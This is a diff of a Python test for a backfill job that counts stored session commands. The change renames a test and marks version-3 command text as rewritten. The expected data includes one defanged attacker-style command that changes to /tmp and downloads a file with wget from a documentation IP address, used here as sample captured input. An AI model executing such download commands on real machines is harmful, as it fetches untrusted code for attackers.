@@ -86,12 +86,12 @@ def test_every_file_of_v3_is_stored(engine_v3: Engine) -> None:
     ]
 
 
-def test_commands_of_v3_are_counted_by_their_defanged_text(engine_v3: Engine) -> None:
-    """V3 kept a command only as `input_safe`, which is counted once for each stored event."""
+def test_commands_of_v3_that_are_not_proven_are_counted_as_rewritten(engine_v3: Engine) -> None:
+    """Where nothing proves what was typed, `input_safe` is counted, marked, once for each stored event."""
     job.backfill(engine_v3)
 
     assert rows(engine_v3, "SELECT session_id, command_normalized, occurrences FROM command_stats") == [
-        ("s1", "cd /tmp [SC] wget [URL]203.0.113.9/x", 2)
+        ("s1", "[rewritten by version 3] cd /tmp [SC] wget [URL]203.0.113.9/x", 2)
     ]
 
 
